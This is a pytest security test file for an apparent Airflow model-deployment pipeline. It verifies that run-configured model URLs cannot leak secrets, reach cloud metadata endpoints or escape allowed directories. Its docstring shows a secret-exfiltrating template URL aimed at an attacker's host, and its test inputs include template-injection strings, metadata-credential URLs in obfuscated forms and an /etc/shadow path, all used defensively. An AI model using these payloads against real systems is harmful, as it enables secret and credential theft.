"""What a trigger form, a run's conf or an Asset event can set is untrusted: it never reads a
secret, never sends the worker where the URL policy forbids, never leaves a token on disk, in
XCom, in rendered fields or in logs.

The exploit is the one a review reproduced: ``model_url = http://<their host>/{{ conn.<id>.password }}/m.tar.gz``
used to be rendered a second time with the full task context.
"""

from __future__ import annotations

import datetime
import json
import ssl
import subprocess
from pathlib import Path

import pytest
from conftest import all_succeeded
from http_recorder import Recorder
from hypothesis import given, settings
from hypothesis import strategies as st
from test_dag_kubernetes_e2e import return_value

from tfserving_deploy.errors import UnsafeModelUrl
from tfserving_deploy.model.hosts import ModelHosts
from tfserving_deploy.model.urls import UrlPolicy, render_model_url

ROOT = Path(__file__).resolve().parents[1]
SECRET = "hunter2-prod-db-password"
TOKEN = "sig0123456789abcdefTOKEN"


@pytest.fixture
def dag(airflow_db, tmp_path, monkeypatch):
    from airflow.dag_processing.dagbag import DagBag

    monkeypatch.setenv("TFSERVING_DEPLOY_CACHE", str(tmp_path / "cache"))
    monkeypatch.setenv("AIRFLOW_CONN_PROD_DB", json.dumps({"conn_type": "postgres", "password": SECRET}))
    monkeypatch.setenv("AIRFLOW_VAR_API_KEY", SECRET)
    return DagBag(dag_folder=str(ROOT / "dags")).get_dag("tfserving_resnet")


def run_states(run) -> dict[str, tuple[str, int]]:
    from airflow.utils.session import create_session

    with create_session() as session:
        return {ti.task_id: (str(ti.state), ti.try_number) for ti in run.get_task_instances(session=session)}


# -- templates ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "template",
    [
        "{{ conn.prod_db.password }}",
        "{{ var.value.api_key }}",
        "{{ macros.datetime.now() }}",
        "{{ params.model_url }}",
        "{{ ds * 800000000 }}",
    ],
    ids=["conn", "var", "macros", "params", "cost"],
)
def test_the_exploit_fails_the_run_at_once_and_the_secret_goes_nowhere(dag, recorder, capfd, template):
    conf = {
        "model_url": f"{recorder.base}/{template}/m.tar.gz",
        "target": "local",
        "force": False,
        "model_sha256": None,
        "expected_class": None,
    }
    run = dag.test(run_conf=conf)
    states = run_states(run)
    assert states["check_for_change"] == ("failed", 1), states  # no retry: a retry cannot fix it
    assert str(run.state).endswith("failed")
    assert recorder.requests == []  # the worker was sent nowhere
    output = capfd.readouterr()
    assert SECRET not in output.out + output.err
    assert "a model URL may use only the run's dates" in output.out + output.err


def test_a_costly_template_fails_fetch_model_at_once(dag, recorder, capfd):
    """force=true: check_for_change does not read the URL, fetch_model is the first to render it."""
    conf = {"model_url": f"{recorder.base}/{{{{ ds * 800000000 }}}}/m.tar.gz", "target": "local", "force": True}
    run = dag.test(run_conf={**conf, "model_sha256": None, "expected_class": None})
    states = run_states(run)
    assert states["check_for_change"] == ("success", 1) and states["fetch_model"] == ("failed", 1), states
    assert recorder.requests == []
    output = capfd.readouterr()
    assert "is not a valid template: '{{ ds * 800000000 }}' is not a placeholder" in output.out + output.err


def test_dated_urls_use_the_runs_dates_only():
    when = datetime.datetime(2026, 1, 2, 3, 4, 5, tzinfo=datetime.UTC)
    assert render_model_url("https://m.example.com/{{ ds_nodash }}/{{ds}}/{{  ts_nodash }}/r.tgz", when) == (
        "https://m.example.com/20260102/2026-01-02/20260102T030405/r.tgz"
    )
    assert render_model_url("https://m.example.com/{{ logical_date }}", when) == (
        "https://m.example.com/2026-01-02T03:04:05+00:00"
    )
    for bad, named in (
        ("{{ ''.__class__.__mro__ }}", "{{ ''.__class__.__mro__ }}"),
        ("{{ ds.__class__ }}", "{{ ds.__class__ }}"),
        ("{{ logical_date.strftime('%Y/%m') }}", "{{ logical_date.strftime('%Y/%m') }}"),
        ("{{ ds * 800000000 }}", "{{ ds * 800000000 }}"),
        ("{{ ds | upper }}", "{{ ds | upper }}"),
        ("{{ lipsum(99999) }}", "{{ lipsum(99999) }}"),
        ("{% for i in range(9999999) %}x{% endfor %}", "{% for i in range(9999999) %}"),
        ("{# a comment #}", "{# a comment #}"),
        ("{{ ds ", "{{ ds /r.tgz"),  # unclosed: to the end, cut at 40 characters
        ("{{ yesterday_ds }}", "{{ yesterday_ds }}"),
    ):
        with pytest.raises(UnsafeModelUrl, match="not a placeholder of the run's dates") as refused:
            render_model_url(f"https://m.example.com/{bad}/r.tgz", when)
        assert repr(named) in str(refused.value), refused.value


def test_a_token_in_the_user_part_stays_out_of_the_template_error():
    when = datetime.datetime(2026, 1, 2, tzinfo=datetime.UTC)
    with pytest.raises(UnsafeModelUrl, match="not a placeholder") as refused:
        render_model_url(f"https://{TOKEN}@m.example.com/{{{{ ds /r.tgz", when)
    assert TOKEN not in str(refused.value) and "https://m.example.com/{{ ds /r.tgz" in str(refused.value)


MAX_PLACEHOLDER_GROWTH = 32  # the longest value: ts with microseconds and offset (render_model_url)
TEMPLATE_PIECES = st.one_of(
    st.text(alphabet="{}%# abcdsz_.*()'0189/:-", max_size=12),
    st.sampled_from(["{{", "}}", "{%", "%}", "{#", "#}", "{{ ds }}", "{{ts}}", "{{ logical_date }}", "{{ ds * 9 }}"]),
)


@settings(max_examples=500, deadline=None)
@given(pieces=st.lists(TEMPLATE_PIECES, max_size=30))
def test_rendering_is_bounded_by_the_templates_length(pieces):
    """Whatever the template, rendering either refuses it or grows it by at most
    MAX_PLACEHOLDER_GROWTH characters per placeholder; what remains opens no template."""
    template = "https://m.example.com/" + "".join(pieces)
    when = datetime.datetime(2026, 12, 31, 23, 59, 59, 999999, tzinfo=datetime.UTC)
    try:
        rendered = render_model_url(template, when)
    except UnsafeModelUrl:
        return
    assert len(rendered) <= len(template) + MAX_PLACEHOLDER_GROWTH * template.count("{{")
    assert "{%" not in template and "{#" not in template
    assert not any(opener in rendered for opener in ("{{", "{%", "{#"))  # nothing left for a later renderer


# -- the URL policy ----------------------------------------------------------------------------------


def test_default_policy_is_https_only(tmp_path):
    policy = UrlPolicy()
    policy.check_offline("https://models.example.com/resnet.tar.gz")
    for url, why in (
        ("http://models.example.com/resnet.tar.gz", "http scheme is not allowed here"),
        (f"file://{tmp_path}/m.tar.gz", "file scheme is not allowed here"),
        (str(tmp_path / "m.tar.gz"), "file scheme is not allowed here"),
    ):
        with pytest.raises(UnsafeModelUrl, match=why):
            policy.check_offline(url)


def test_file_urls_only_inside_configured_directories(tmp_path):
    allowed = tmp_path / "models"
    allowed.mkdir()
    (allowed / "escape").symlink_to(tmp_path)
    policy = UrlPolicy.from_environment(
        {"TFSERVING_DEPLOY_URL_SCHEMES": "https,file", "TFSERVING_DEPLOY_FILE_DIRS": str(allowed)}
    )
    policy.check(f"file://{allowed}/m.tar.gz")
    for url in (f"file://{tmp_path}/secret.tar.gz", f"file://{allowed}/escape/secret.tar.gz", "/etc/shadow"):
        with pytest.raises(UnsafeModelUrl, match="outside the directories file:// URLs may read"):
            policy.check(url)


@pytest.mark.parametrize(
    "url",
    [
        "https://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://[fd00:ec2::254]/latest/meta-data/",
        "http://[fe80::1]/m.tar.gz",
    ],
)
def test_metadata_and_link_local_addresses_are_refused(url):
    with pytest.raises(UnsafeModelUrl, match="metadata"):
        UrlPolicy(frozenset({"https", "http"})).check(url)


def test_every_redirect_is_checked(recorder, tmp_path):
    from tfserving_deploy.model.artifact import fetch_model

    recorder.redirects["/m.tar.gz"] = "http://169.254.169.254/latest/meta-data/"
    policy = UrlPolicy(frozenset({"https", "http"}), hosts=ModelHosts.parse("127.0.0.0/8"))
    with pytest.raises(UnsafeModelUrl, match=r"169\.254\.169\.254 .*link-local or metadata address; refused"):
        fetch_model(f"{recorder.base}/m.tar.gz", cache_dir=tmp_path, policy=policy)
    assert recorder.requests == ["GET /m.tar.gz"]  # followed by hand: never towards the metadata server


def test_https_never_continues_over_http(recorder, tmp_path):
    """A local https server (self-signed, trusted for this test) redirects to plain http."""
    from tfserving_deploy.model.artifact import fetch_model

    key, cert = tmp_path / "key.pem", tmp_path / "cert.pem"
    subprocess.run(
        [
            "openssl",
            "req",
            "-x509",
            "-newkey",
            "ec",
            "-pkeyopt",
            "ec_paramgen_curve:prime256v1",
            "-nodes",
            "-keyout",
            str(key),
            "-out",
            str(cert),
            "-days",
            "1",
            "-subj",
            "/CN=127.0.0.1",
            "-addext",
            "subjectAltName=IP:127.0.0.1",
        ],
        check=True,
        capture_output=True,
    )
    secure = Recorder()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert, key)
    secure.socket = context.wrap_socket(secure.socket, server_side=True)
    secure.redirects["/m.tar.gz"] = f"{recorder.base}/m.tar.gz"
    https = secure.base.replace("http://", "https://")
    try:
        with pytest.MonkeyPatch.context() as mp:
            mp.setenv("REQUESTS_CA_BUNDLE", str(cert))
            with pytest.raises(UnsafeModelUrl, match="an https download never continues over plain http"):
                fetch_model(
                    f"{https}/m.tar.gz",
                    cache_dir=tmp_path / "cache",
                    policy=UrlPolicy(frozenset({"https", "http"}), hosts=ModelHosts.parse("127.0.0.0/8")),
                )
    finally:
        secure.close()
    assert secure.requests == ["GET /m.tar.gz"] and recorder.requests == []


# -- signed-URL tokens ---------------------------------------------------------------------------------


def test_signed_url_tokens_stay_out_of_disk_xcom_rendered_fields_and_logs(
    dag, recorder, capfd, tmp_path, demo_model_url
):
    from airflow.models.renderedtifields import RenderedTaskInstanceFields
    from airflow.utils.session import create_session

    recorder.files["/resnet.tar.gz"] = _demo_bytes(demo_model_url)
    signed = f"{recorder.base}/resnet.tar.gz?X-Goog-Algorithm=GOOG4&X-Goog-Signature={TOKEN}&X-Goog-Expires=600"
    run = dag.test(
        run_conf={
            "model_url": signed,
            "target": "local",
            "replicas": 1,
            "force": True,
            "model_sha256": None,
            "expected_class": 286,
            "image_repository": "127.0.0.1:5000/tfserving-deploy-untrusted",
            "serving_base_image": "127.0.0.1:5000/tfserving-deploy/serving:2.21.0",
            "model_name": "untrusted",  # its own replicas, removed below: not the demo's "resnet"
        }
    )
    _remove_replicas("untrusted")
    states = run_states(run)
    assert all_succeeded({task: state for task, (state, _) in states.items()}), states
    assert any(TOKEN in r for r in recorder.requests)  # the server did get its signed URL
    output = capfd.readouterr()
    assert TOKEN not in output.out + output.err
    cache = tmp_path / "cache"
    for path in cache.rglob("*.json"):
        assert TOKEN not in path.read_text(errors="replace"), path
    with create_session() as session:  # every task renders the settings, the model URL among them
        rendered = {
            ti.task_id: RenderedTaskInstanceFields.get_templated_fields(ti, session=session)
            for ti in run.get_task_instances(session=session)
        }
    assert TOKEN not in json.dumps(rendered) and "***" in rendered["deploy"]["settings"]["model_url"], rendered
    assert TOKEN not in json.dumps(return_value(dag, run, "fetch_model"))


def _remove_replicas(model_name: str) -> None:
    import docker
    from tfserving_deploy.targets.local.target import LABEL_MODEL

    for c in docker.from_env().containers.list(all=True, filters={"label": f"{LABEL_MODEL}={model_name}"}):
        c.remove(force=True)


def _demo_bytes(demo_model_url: str) -> bytes:
    import urllib.request

    with urllib.request.urlopen(demo_model_url, timeout=30) as response:
        return response.read()


@pytest.mark.parametrize(
    "model_url",
    ["https://models.example.com/m.tar.gz", "http://[::ffff:169.254.169.254]/m.tar.gz", "http://2852039166/m.tar.gz"],
    ids=["off-the-allowlist", "metadata-mapped", "metadata-decimal"],
)
def test_a_refused_model_host_fails_the_change_check_at_once(dag, monkeypatch, model_url):
    """The URL policy's refusals are input faults: the first task that reads the URL fails on try 1."""
    monkeypatch.setenv("TFSERVING_DEPLOY_MODEL_HOSTS", "*.models.corp.example")
    run = dag.test(run_conf={"model_url": model_url, "target": "local", "force": False, "model_sha256": None})
    states = run_states(run)
    # check_for_change refuses it when it has something to probe; otherwise fetch_model does.
    first_reader = "check_for_change" if states["check_for_change"][0] == "failed" else "fetch_model"
    assert states[first_reader] == ("failed", 1), states
    assert states["build_image"][0] == "upstream_failed", states
